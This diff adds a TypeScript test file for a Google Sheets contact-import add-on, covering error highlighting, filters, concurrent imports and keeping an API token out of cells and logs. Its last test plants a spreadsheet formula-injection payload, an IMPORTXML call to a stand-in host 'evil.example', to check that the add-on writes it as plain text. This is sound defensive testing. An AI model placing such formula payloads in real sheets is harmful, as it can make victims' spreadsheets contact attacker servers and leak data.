@@ -1,0 +1,224 @@
+/**
+ * What a person sees the add-on do in the sheet, through the production bundle: checks in
+ * place, highlights over their own colours, the error filter, next error, suggested fixes,
+ * onEdit re-checks; one import at a time; rows sorted mid-import; the token kept private;
+ * formula-looking text written as text.
+ */
+import {
+  column,
+  importAll,
+  setUp,
+  startAddon,
+  TOKEN,
+  OWNER,
+  type Addon,
+} from '../support/addon-harness';
+
+const HEADER = ['First Name', 'Last Name', 'Mobile', 'Email'];
+
+function sheet(rows = 60): unknown[][] {
+  const out: unknown[][] = [HEADER];
+  for (let i = 0; i < rows; i++) {
+    out.push([
+      `Person${i}`,
+      `Family${(i * 7) % 13}`,
+      `+60 13-${String(2_000_000 + i).slice(0, 3)} ${String(2_000_000 + i).slice(3)}`,
+      `p${i}@example.com`,
+    ]);
+  }
+  return out;
+}
+
+let addon: Addon;
+beforeAll(async () => {
+  addon = await startAddon({ Contacts: sheet() }, ['--seed', 'empty', '--rate', '40']);
+  addon.fakes.uncounted(() =>
+    addon.fakes.globals.PropertiesService.getScriptProperties().setProperty(
+      'contactImport.sliceMs',
+      '400',
+    ),
+  );
+}, 60_000);
+afterAll(() => addon.stop());
+
+const contactsTab = () =>
+  addon.fakes.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Contacts')!;
+const state = () => addon.fakes.spreadsheet.sheetState('Contacts');
+
+describe('checking in place', () => {
+  beforeAll(() => {
+    setUp(addon, {
+      purpose: 'add-update',
+      identifier: 'phone',
+      importTag: null,
+      defaultCountry: 'MY',
+    });
+    addon.fakes.spreadsheet.edit(() => {
+      const tab = contactsTab();
+      tab.getRange(4, 1).setValue(''); // row 4: no first name
+      tab.getRange(6, 4).setValue('p4 at example'); // row 6: not an email
+      tab.getRange(8, 3).setValue("'013-555 0101"); // row 8: local number, fixable with MY
+      tab.getRange(5, 1, 1, 2).setBackground('#fff2cc'); // the person's own colour
+    });
+  });
+
+  test('review writes the Error column and highlights only the offending cells', () => {
+    const review = addon.call('reviewSheet');
+    expect(review).toMatchObject({ errors: 2, firstErrorRow: 4, suggestions: 1 });
+    const s = state();
+    const error = s.values[0]!.indexOf('Error');
+    expect(s.values[3]![error]).toMatch(/^First Name: missing/);
+    expect(s.values[5]![error]).toMatch(/^Email:/);
+    expect(s.values[4]![error]).toBe('');
+    expect(s.effectiveBackgrounds[3]![0]).toBe('#f4c7c3');
+    expect(s.effectiveBackgrounds[3]![1]).not.toBe('#f4c7c3');
+    expect(s.effectiveBackgrounds[5]![3]).toBe('#f4c7c3');
+    // The person's own colours are untouched.
+    expect(s.backgrounds[4]!.slice(0, 2)).toEqual(['#fff2cc', '#fff2cc']);
+    // Helper columns are hidden.
+    const hidden = ['Import Fingerprint', 'Error Cells'].map((h) => s.values[0]!.indexOf(h) + 1);
+    expect(s.hiddenColumns).toEqual(expect.arrayContaining(hidden));
+  });
+
+  test('Go to next error selects the next flagged row, wrapping', () => {
+    expect(addon.call('goToNextError', null)).toEqual({ row: 4 });
+    expect(state().activeRange).toMatch(/^A4:/);
+    expect(addon.call('goToNextError', 4)).toEqual({ row: 6 });
+    expect(addon.call('goToNextError', 6)).toEqual({ row: 4 });
+  });
+
+  test('Show only rows with errors hides the clean rows, and undoes itself', () => {
+    addon.call('setErrorFilter', true);
+    const hidden = state().hiddenRowsByFilter;
+    expect(hidden).toHaveLength(58);
+    expect(hidden).not.toContain(4);
+    addon.call('setErrorFilter', false);
+    expect(state().hiddenRowsByFilter).toEqual([]);
+    expect(state().filter).toBeNull();
+  });
+
+  test('editing a flagged cell re-checks its row at once (onEdit)', () => {
+    addon.fakes.spreadsheet.edit(() => contactsTab().getRange(4, 1).setValue('Fixed'));
+    addon.fakes.calls.reset();
+    addon.bundle.invoke('onEdit', {
+      range: contactsTab().getRange(4, 1),
+      value: 'Fixed',
+      authMode: addon.fakes.globals.ScriptApp.AuthMode.LIMITED,
+    });
+    const s = state();
+    expect(s.values[3]![s.values[0]!.indexOf('Error')]).toBe('');
+    expect(s.effectiveBackgrounds[3]![0]).not.toBe('#f4c7c3');
+    expect(addon.fakes.calls.total('UrlFetchApp')).toBe(0);
+  });
+
+  test('Apply suggested fixes writes the suggested value, as text', () => {
+    const review = addon.call('applySuggestedFixes');
+    expect(review.suggestions).toBe(0);
+    expect(state().values[7]![2]).toBe('+60135550101');
+  });
+});
+
+describe('importing', () => {
+  test('one import at a time: a teammate is told who is importing and since when', () => {
+    const first = addon.call('startImport', 'pending');
+    addon.fakes.setActiveUser('teammate@example.com');
+    try {
+      const second = addon.raw('startImport', 'pending');
+      expect(second.ok).toBe(false);
+      expect(!second.ok && second.error).toMatch(
+        new RegExp(`${OWNER} is importing "Contacts" since`),
+      );
+    } finally {
+      addon.fakes.setActiveUser(OWNER);
+    }
+    addon.call('cancelImport', first.jobId);
+  });
+
+  test('rows sorted by a teammate between slices keep their own outcomes', async () => {
+    let sorted = false;
+    const { progress } = importAll(addon, 'pending', () => {
+      if (sorted) return;
+      sorted = true;
+      addon.fakes.spreadsheet.edit(() => contactsTab().sort(2, false));
+    });
+    expect(sorted).toBe(true);
+    expect(progress.status).toBe('completed');
+    const contacts = await addon.contacts();
+    const byId = new Map(contacts.map((c) => [c.id, c]));
+    const phones = column(addon, 'Mobile');
+    const ids = column(addon, 'Contact ID');
+    const statuses = column(addon, 'Import Status');
+    let checked = 0;
+    statuses.forEach((status, i) => {
+      if (status !== 'Imported') return;
+      const contact = byId.get(Number(ids[i]));
+      expect(contact?.phone).toBe(String(phones[i]).replace(/[^\d+]/g, ''));
+      checked++;
+    });
+    expect(checked).toBe(59);
+  }, 60_000);
+
+  test('the token never reaches a cell, a note, the document, a log or the sidebar', () => {
+    const everywhere: string[] = [];
+    for (const name of addon.fakes.spreadsheet.sheetNames()) {
+      const s = addon.fakes.spreadsheet.sheetState(name);
+      everywhere.push(JSON.stringify([s.values, s.notes, s.formulas, s.displayValues]));
+    }
+    const props = addon.fakes.properties.snapshot();
+    everywhere.push(
+      JSON.stringify(props.document),
+      JSON.stringify(props.script),
+      JSON.stringify(addon.fakes.logs),
+    );
+    everywhere.push(JSON.stringify(addon.answers));
+    for (const [user, store] of Object.entries(props.users))
+      if (user !== OWNER) everywhere.push(JSON.stringify(store));
+    expect(everywhere.join('\n')).not.toContain(TOKEN);
+    expect(JSON.stringify(props.users[OWNER])).toContain(TOKEN);
+    expect(addon.call('getWizardState').connection).toEqual({
+      baseUrl: addon.emulator.baseUrl,
+      hasToken: true,
+      tokenLast4: TOKEN.slice(-4),
+    });
+    addon.fakes.setActiveUser('teammate@example.com');
+    try {
+      expect(addon.call('getWizardState').connection.hasToken).toBe(false);
+    } finally {
+      addon.fakes.setActiveUser(OWNER);
+    }
+  });
+});
+
+describe('text that looks like a formula', () => {
+  test('is written as text, never run', async () => {
+    const evil = '=IMPORTXML("http://evil.example/x","//a")';
+    const other = await startAddon({ Sheet1: [] }, ['--seed', 'empty']);
+    try {
+      other.fakes.spreadsheet.seedSheet(
+        'Contacts',
+        [
+          ['First Name', 'Mobile', `'${evil}`],
+          ['Ann', '+60 12-345 6789', 'not-an-email'],
+        ],
+        { typed: true },
+      );
+      setUp(other, {
+        purpose: 'add-update',
+        identifier: 'phone',
+        importTag: null,
+        mapping: [
+          { column: 0, header: 'First Name', field: 'firstName', match: 'manual', confidence: 1 },
+          { column: 1, header: 'Mobile', field: 'phone', match: 'manual', confidence: 1 },
+          { column: 2, header: evil, field: 'email', match: 'manual', confidence: 1 },
+        ],
+      });
+      other.call('reviewSheet');
+      const s = other.fakes.spreadsheet.sheetState('Contacts');
+      const error = s.values[0]!.indexOf('Error');
+      expect(s.values[1]![error]).toMatch(/^=IMPORTXML\(/);
+      expect(s.formulas.flat().filter((f) => f !== '')).toEqual([]);
+    } finally {
+      await other.stop();
+    }
+  }, 30_000);
+});
